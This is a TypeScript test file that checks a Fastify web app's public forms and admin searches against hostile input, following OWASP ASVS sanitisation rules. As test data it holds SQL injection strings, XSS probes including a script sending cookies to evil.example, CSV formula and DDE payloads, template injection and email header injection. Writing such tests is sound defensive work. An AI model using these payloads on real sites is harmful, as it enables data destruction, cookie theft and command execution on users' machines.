import type { FastifyInstance } from 'fastify'
import { describe, expect, it } from 'vitest'
import { bearer, createAdmin, tokenFor } from '../helpers/auth.ts'
import { buildTestApp, DIALECTS } from '../helpers/build.ts'
import { creditApplicationFixture } from '../helpers/credit.ts'

/*
 * OWASP ASVS 4.0 V5.2/V5.3 (sanitisation and output encoding), level 2: hostile text typed into
 * the public forms is stored exactly as typed (parameterised SQL, no "cleaning"), escaped in every
 * HTML email, kept to one line in mail subjects, neutralised as a formula in the CSV export, and
 * matched literally by the admin searches (LIKE wildcards too). The PDF: test/modules/credit/
 * apply.test.ts ('prints hostile text literally'); the web pages and admin tables render text
 * through React, which escapes it (e2e).
 */

/** At most 30 characters, as names are. */
const HOSTILE_NAMES = [
  "Robert'); DROP TABLE users;--",
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  '=HYPERLINK("http://e.vil","x")',
  '+SUM(1+1)*cmd|"/C calc"!A0',
  '@SUM(1) %_ \\',
]

const HOSTILE_MESSAGE = [
  "1' OR '1'='1'; DELETE FROM outbox; --",
  '<script>document.location="https://evil.example/?c="+document.cookie</script>',
  '<img src=x onerror=alert(1)> <a href="javascript:alert(1)">click</a>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template injection probe, literally.
  '-2+3 =1+1 {{7*7}} ${7*7}',
  'Bcc: victim@example.com',
].join('\n')

const FORMULA_CELL = /(^|,)"[=+\-@\t\r]/m

function post(app: FastifyInstance, url: string, payload: unknown, index: number) {
  return app.inject({
    method: 'POST',
    url,
    payload: payload as object,
    remoteAddress: `203.0.113.${index + 1}`,
  })
}

describe.each(DIALECTS)('hostile text in the public forms on %s', (dialect) => {
  it('stores contact and quote text literally, escapes it in the emails, and neutralises it in the CSV', async () => {
    const { app } = await buildTestApp({ dialect })
    const ids: string[] = []
    for (const [index, name] of HOSTILE_NAMES.entries()) {
      const quote = index % 2 === 1
      const response = await post(
        app,
        quote ? '/api/get-a-quote' : '/api/contact',
        {
          name,
          email: `mallory${index}@example.com`,
          phone: '03 5550 1234',
          message: HOSTILE_MESSAGE,
          ...(quote ? { services: ['Arrow Boards'], source: ['Google Search'] } : {}),
        },
        index,
      )
      expect(response.statusCode, response.body).toBe(201)
      ids.push((response.json() as { id: string }).id)
    }

    const rows = await app.db.selectFrom('enquiries').select(['id', 'name', 'message']).execute()
    expect(rows).toHaveLength(HOSTILE_NAMES.length)
    for (const [index, id] of ids.entries()) {
      expect(rows.find((row) => row.id === id)).toEqual({
        id,
        name: HOSTILE_NAMES[index],
        message: HOSTILE_MESSAGE,
      })
    }

    const mails = await app.db.selectFrom('outbox').select(['subject', 'html_body', 'text_body']).execute()
    expect(mails).toHaveLength(HOSTILE_NAMES.length * 2)
    for (const mail of mails) {
      expect(mail.subject).not.toMatch(/[\r\n]/)
      const html = mail.html_body ?? ''
      expect(html).not.toMatch(/<(script|img)\b|<a [^>]*href="javascript:/i)
      // The business's copy shows the text escaped; the sender's acknowledgement repeats none of it.
      if (mail.subject.startsWith('Thanks for contacting')) {
        expect(html).not.toContain('script')
        expect(mail.text_body).not.toContain(HOSTILE_MESSAGE)
      } else {
        expect(html).toContain('&lt;script&gt;')
        expect(html).toContain('&lt;img src=x onerror=alert(1)&gt;')
      }
    }
    // The business sees what was typed in the text part.
    expect(mails.some((mail) => mail.text_body.includes(HOSTILE_MESSAGE))).toBe(true)

    const admin = bearer(await tokenFor(app, await createAdmin(app)))
    const csv = await app.inject({ method: 'GET', url: '/api/admin/enquiries.csv', headers: admin })
    expect(csv.statusCode).toBe(200)
    expect(csv.body).not.toMatch(FORMULA_CELL)
    expect(csv.body).toContain(`"'=HYPERLINK(""http://e.vil"",""x"")"`)
    expect(csv.body).toContain(`"'+SUM(1+1)`)
    expect(csv.body).toContain(`"'@SUM(1)`)

    const list = await app.inject({ method: 'GET', url: '/api/admin/enquiries?pageSize=100', headers: admin })
    const names = (list.json() as { items: { name: string }[] }).items.map((item) => item.name)
    expect(names.sort()).toEqual([...HOSTILE_NAMES].sort())
  })

  it('matches admin searches literally: SQL, quotes and LIKE wildcards find only what contains them', async () => {
    const { app } = await buildTestApp({ dialect })
    for (const [index, name] of ['Jane Citizen', 'Sam Taylor', '100% Traffic_Co'].entries()) {
      const response = await post(
        app,
        '/api/contact',
        { name, email: 'someone@example.com', message: 'Hello there.' },
        index,
      )
      expect(response.statusCode).toBe(201)
    }
    const credit = await creditApplicationFixture(0)
    credit.section1.businessName = '100% Traffic_Co'
    expect((await post(app, '/api/apply-for-credit', credit, 9)).statusCode).toBe(200)
    const admin = bearer(await tokenFor(app, await createAdmin(app)))

    const search = async (path: string, term: string) => {
      const response = await app.inject({
        method: 'GET',
        url: `${path}?search=${encodeURIComponent(term)}`,
        headers: admin,
      })
      expect(response.statusCode, `${path} ${term}: ${response.body}`).toBe(200)
      return (response.json() as { total: number }).total
    }
    for (const path of ['/api/admin/enquiries', '/api/admin/credit-applications']) {
      expect(await search(path, "' OR '1'='1")).toBe(0)
      expect(await search(path, "x' OR 1=1 --")).toBe(0)
      expect(await search(path, '"; DROP TABLE users; --')).toBe(0)
      expect(await search(path, '%')).toBe(1)
      expect(await search(path, '_')).toBe(1)
      expect(await search(path, '\\')).toBe(0)
    }
    expect(await search('/api/admin/enquiries', 'a')).toBe(3)
  })

  it('keeps hostile text of a credit application literal in the stored application and its emails', async () => {
    const { app } = await buildTestApp({ dialect })
    const credit = await creditApplicationFixture(0)
    credit.section1.businessName = '<script>alert(1)</script>'
    credit.section1.position = "Director'); DROP TABLE credit_applications;--"
    credit.section1.personCompletingTheApplication = 'Morgan\r\nBcc: victim@example.com'
    const response = await post(app, '/api/apply-for-credit', credit, 0)
    expect(response.statusCode, response.body).toBe(200)

    const row = await app.db
      .selectFrom('credit_applications')
      .select(['business_name', 'payload'])
      .executeTakeFirstOrThrow()
    expect(row.business_name).toBe('<script>alert(1)</script>')
    expect(JSON.parse(row.payload).section1.position).toBe("Director'); DROP TABLE credit_applications;--")
    const mails = await app.db.selectFrom('outbox').select(['subject', 'text_body', 'html_body']).execute()
    // The business's copy, the receipt, and each guarantor director's copy (ADR 036).
    expect(mails).toHaveLength(4)
    for (const mail of mails) {
      expect(mail.subject).not.toMatch(/[\r\n]/)
      expect(mail.html_body === null || !/<script/i.test(mail.html_body)).toBe(true)
    }
  })
})
